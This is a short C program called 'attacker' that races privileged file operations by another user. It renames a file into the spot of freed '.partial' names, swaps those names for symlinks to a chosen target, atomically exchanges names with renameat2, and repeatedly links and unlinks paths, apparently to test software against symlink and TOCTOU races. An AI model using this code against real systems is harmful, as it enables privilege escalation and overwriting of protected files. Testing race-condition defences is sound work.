/* Another user who changes what names mean while root works with them, as fast as possible, until ended.
 *
 *   attacker take DIR PREFIX EVIL          as soon as DIR/PREFIX*.partial is free again, EVIL gets its name, in DIR
 *   attacker swap DIR PREFIX TARGET        moves DIR/PREFIX*.partial away and puts a link to TARGET there, and back
 *   attacker exchange A B                  A and B exchange their names
 *   attacker relink NAME TARGET            creates and removes the link NAME to TARGET */
#define _GNU_SOURCE
#include <dirent.h>
#include <fcntl.h>
#include <stdio.h>
#include <string.h>
#include <sys/syscall.h>
#include <unistd.h>

static char name[4096], saved[4096];

static int find(const char *dir, const char *prefix) {
    DIR *open = opendir(dir);
    struct dirent *entry;
    int found = 0;

    while (open && (entry = readdir(open)))
        if (!strncmp(entry->d_name, prefix, strlen(prefix)) && strstr(entry->d_name, ".partial")) {
            snprintf(name, sizeof(name), "%s/%s", dir, entry->d_name);
            snprintf(saved, sizeof(saved), "%s/saved", dir);
            found = 1;
        }
    if (open)
        closedir(open);
    return found;
}

static void take(const char *dir, const char *prefix, const char *evil) {
    char aside[4096];

    for (;;) {
        while (!find(dir, prefix))
            ;
        for (long tries = 0; tries < 2000000 && rename(evil, name); tries++)
            ;
        usleep(2000);
        snprintf(aside, sizeof(aside), "%s", name);
        rename(aside, evil);
    }
}

static void swap(const char *dir, const char *prefix, const char *target) {
    for (;;) {
        if (!find(dir, prefix))
            continue;
        for (int i = 0; i < 50 && !rename(name, saved); i++) {
            if (symlink(target, name))
                perror("symlink");
            usleep(i % 7 * 100);
            unlink(name);
            rename(saved, name);
            usleep(i % 5 * 100);
        }
    }
}

static void exchange(const char *a, const char *b) {
    for (;;)
        syscall(SYS_renameat2, AT_FDCWD, a, AT_FDCWD, b, 2); /* RENAME_EXCHANGE */
}

static void relink(const char *path, const char *target) {
    for (;;) {
        if (symlink(target, path))
            unlink(path);
        usleep(50);
        unlink(path);
    }
}

int main(int argc, char **argv) {
    puts("ready");
    fflush(stdout);
    if (argc == 5 && !strcmp(argv[1], "take"))
        take(argv[2], argv[3], argv[4]);
    if (argc == 5 && !strcmp(argv[1], "swap"))
        swap(argv[2], argv[3], argv[4]);
    if (argc == 4 && !strcmp(argv[1], "exchange"))
        exchange(argv[2], argv[3]);
    if (argc == 4 && !strcmp(argv[1], "relink"))
        relink(argv[2], argv[3]);
    return 2;
}
